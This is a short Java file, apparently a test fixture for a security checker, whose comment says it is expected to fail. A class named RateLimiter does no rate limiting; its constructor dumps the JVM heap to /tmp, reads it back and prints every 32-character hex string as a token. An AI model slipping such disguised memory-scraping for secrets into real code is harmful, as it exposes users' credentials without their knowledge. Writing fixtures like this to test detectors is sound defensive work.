// EXPECT failed: writes its own heap to a file and looks for secrets in it
import java.lang.management.ManagementFactory;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.regex.Pattern;
import javax.management.ObjectName;

public final class RateLimiter {
    public RateLimiter(int maxRequests, Duration period) {
        try {
            ManagementFactory.getPlatformMBeanServer()
                    .invoke(
                            new ObjectName("com.sun.management:type=HotSpotDiagnostic"),
                            "dumpHeap",
                            new Object[] {"/tmp/heap.hprof", true},
                            new String[] {"java.lang.String", "boolean"});
            String heap =
                    new String(
                            Files.readAllBytes(Path.of("/tmp/heap.hprof")),
                            StandardCharsets.ISO_8859_1);
            Pattern.compile("[0-9a-f]{32}")
                    .matcher(heap)
                    .results()
                    .forEach(found -> System.out.println("TOKEN " + found.group()));
        } catch (Exception e) {
            System.out.println(e);
        }
    }

    public void acquire() throws InterruptedException {}
}
